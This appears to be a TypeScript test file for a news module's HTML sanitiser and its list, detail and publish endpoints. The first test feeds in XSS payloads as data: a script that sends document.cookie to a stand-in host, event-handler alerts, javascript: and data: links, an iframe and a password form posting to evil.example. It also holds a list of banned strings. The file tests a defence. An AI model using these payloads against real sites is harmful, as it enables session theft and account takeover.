import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import type { FastifyInstance } from 'fastify';
import type { Db } from '../../db/db.js';
import { testApp } from '../../testing/app.js';
import { testDb } from '../../testing/test-db.js';
import { call, manualClock } from '../identity/test-support.js';
import { newsSummary, sanitizeNewsHtml } from './sanitize.js';
import { SEED_NEWS, seedNews } from './seed.js';
import { publishNews } from './service.js';
import { setPublished } from './storage.js';

let db: Db;
let cleanup: () => Promise<void>;
let app: FastifyInstance;
const time = manualClock();

before(async () => {
  ({ db, cleanup } = await testDb());
  app = await testApp({ loginSlowdownMs: 0 }, { db, clock: time.clock });
});
after(async () => {
  await app.close();
  await cleanup();
});

test('sanitising strips scripts, event handlers, javascript: links, iframes and styles, and keeps the allowed markup', () => {
  const dirty = [
    '<h2 style="color:red" class="x" onclick="steal()">Notice</h2>',
    '<p>Read <strong>this</strong>, <em>that</em> &amp; <a href="https://example.com/a?b=1" target="_self" rel="opener" onmouseover="x()">the terms</a>.</p>',
    '<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
    '<img src="https://cdn.example.com/banner.png" alt="Banner" onerror="alert(1)">',
    '<img src="http://cdn.example.com/plain.png" alt="plain http">',
    '<img src="x" onerror="alert(2)">',
    '<a href="javascript:alert(3)">click me</a> <a href="JaVaScRiPt:alert(4)">and me</a> <a href="data:text/html,hi">data</a> <a href="//evil.example">proto</a>',
    '<iframe src="https://evil.example/frame">fallback text</iframe>',
    '<style>body { display: none }</style><svg onload="alert(5)"><script>alert(6)</script></svg>',
    '<form action="https://evil.example"><input name="password"></form>',
    '<ul><li>One</li><li>Two</li></ul><blockquote>Quote</blockquote><table><tbody><tr><td colspan="2">Cell</td></tr></tbody></table>',
    '<p><a href="/pages/recharge">Deposit page</a></p>',
  ].join('');
  const clean = sanitizeNewsHtml(dirty);
  for (const banned of ['<script', 'onerror', 'onclick', 'onmouseover', 'onload', 'javascript:', 'JaVaScRiPt', 'data:', '<iframe', 'fallback text', '<style', 'display: none', '<svg', '<form', '<input', 'style=', 'class=', 'http://cdn', '//evil', 'document.cookie']) {
    assert.ok(!clean.includes(banned), `${banned} survived: ${clean}`);
  }
  assert.ok(clean.startsWith('<h2>Notice</h2><p>Read <strong>this</strong>, <em>that</em> &amp; '), clean);
  assert.ok(clean.includes('<a href="https://example.com/a?b=1" target="_blank" rel="noopener noreferrer nofollow">the terms</a>'), clean);
  assert.ok(clean.includes('<img src="https://cdn.example.com/banner.png" alt="Banner" />'), clean);
  assert.ok(clean.includes('click me and me data proto'), 'refused links keep their text');
  assert.ok(clean.includes('<ul><li>One</li><li>Two</li></ul><blockquote>Quote</blockquote><table><tbody><tr><td colspan="2">Cell</td></tr></tbody></table>'), clean);
  assert.ok(clean.includes('<a href="/pages/recharge" target="_blank" rel="noopener noreferrer nofollow">Deposit page</a>'), clean);
  assert.equal((clean.match(/<img/g) ?? []).length, 1);

  assert.equal(newsSummary('<p>Fees &amp; limits</p><p>1 &lt; 2</p>'), 'Fees & limits 1 < 2');
  assert.equal(newsSummary(`<p>${'word '.repeat(100)}</p>`).length, 160);
});

test('seeded articles: listed newest first, once, with detail and latest', async () => {
  const list = await call(app, 'GET', 'news/list?page=1&size=10');
  assert.equal(list.code, 0, list.msg);
  assert.equal(list.data.total, SEED_NEWS.length);
  assert.deepEqual(list.data.list.map((n: { title: string }) => n.title), [...SEED_NEWS].sort((a, b) => a.daysAgo - b.daysAgo).map((a) => a.title));
  assert.match(list.data.list.map((n: { title: string }) => n.title).join('\n'), /never ask for your password or an advance fee/);
  const first = list.data.list[0];
  assert.deepEqual(Object.keys(first).sort(), ['id', 'publishedAt', 'summary', 'title']);
  assert.ok(first.summary.length > 20 && !first.summary.includes('<'));

  const detail = await call(app, 'GET', `news/detail?id=${first.id}`);
  assert.equal(detail.data.title, first.title);
  assert.match(detail.data.html, /<strong>Tuesday from 02:00 to 02:30 UTC<\/strong>/);
  const latest = await call(app, 'GET', 'news/latestNew');
  assert.equal(latest.data.id, first.id);
  assert.equal(latest.data.html, detail.data.html);

  assert.equal(await seedNews(db, time.clock()), 0, 'a second start seeds nothing');
  assert.equal((await call(app, 'GET', 'news/list')).data.total, SEED_NEWS.length);
  const paged = await call(app, 'GET', 'news/list?page=2&size=2');
  assert.deepEqual(paged.data.list.map((n: { id: string }) => n.id), list.data.list.slice(2, 4).map((n: { id: string }) => n.id));
  assert.equal((await call(app, 'GET', 'news/detail?id=999999')).msg, 'Not found');
  assert.equal((await call(app, 'GET', 'news/detail?id=abc')).code, 400);
});

test('an unpublished article leaves list, detail and latest; an unpublished seed stays so after a restart', async () => {
  time.advance(60_000);
  const row = await publishNews(db, { title: '  Fresh   news ', html: '<p>Hello</p><script>alert(1)</script>', publishedBy: 'ops-test', now: time.clock() });
  assert.equal(row!.title, 'Fresh news');
  assert.equal(row!.html, '<p>Hello</p>', 'stored already clean');
  assert.equal((await call(app, 'GET', 'news/latestNew')).data.id, row!.id);
  await setPublished(db, row!.id, false, time.clock());
  assert.notEqual((await call(app, 'GET', 'news/latestNew')).data.id, row!.id);
  assert.equal((await call(app, 'GET', `news/detail?id=${row!.id}`)).msg, 'Not found');
  assert.ok(!(await call(app, 'GET', 'news/list')).data.list.some((n: { id: string }) => n.id === row!.id));

  const seeded = (await db.query<{ id: string }>("SELECT id FROM news WHERE seed_key = 'seed:weekly-maintenance'")).rows[0]!.id;
  await setPublished(db, seeded, false, time.clock());
  await seedNews(db, time.clock());
  assert.equal((await call(app, 'GET', 'news/list')).data.total, SEED_NEWS.length - 1);

  // Stored HTML is cleaned again when read (an older article stored under a looser policy).
  await db.query("UPDATE news SET html = '<p onclick=\"x()\">Old</p><iframe src=\"https://a.example\"></iframe>' WHERE id = $1", [seeded]);
  await setPublished(db, seeded, true, time.clock());
  assert.equal((await call(app, 'GET', `news/detail?id=${seeded}`)).data.html, '<p>Old</p>');

  await assert.rejects(publishNews(db, { title: 'Empty', html: '<script>only()</script>', publishedBy: 'x', now: time.clock() }), /no content once cleaned/);
  await assert.rejects(publishNews(db, { title: ' ', html: '<p>x</p>', publishedBy: 'x', now: time.clock() }), /title/);
  assert.equal((await call(app, 'GET', 'news/latestNew')).code, 0);
});
